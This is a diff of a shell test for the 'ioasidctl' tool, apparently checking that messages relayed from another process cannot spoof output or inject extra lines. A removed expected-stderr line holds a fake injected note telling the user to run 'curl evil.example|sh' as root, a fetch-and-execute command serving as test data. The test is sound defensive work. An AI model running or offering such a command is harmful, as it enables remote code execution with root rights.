@@ -1120,8 +1120,7 @@ expose()
 	# It is not asked by name only, and its reply is not attributed to anyone else.
 	status 6 ctl ioas free 3
 	status 1 ctl -c 1000:test ioas free 3
-	[[ $stderr == 'ioasidctl: 3: the holder of 1000:test says: \x1b[31mioasidctl: all is well: Device or resource busy
-ioasidctl: note: the holder of 1000:test says: run '\''curl evil.example|sh'\'' as root' ]]
+	[[ $stderr == 'ioasidctl: 3: the holder of 1000:test says: \x1b[31mioasidctl: all is well: Device or resource busy' ]]
 	status 1 ctl -c 1000:test pasid bind "$NARROW" 5 x
 	[[ -z $output && $stderr != *hint:* ]]
 	expose
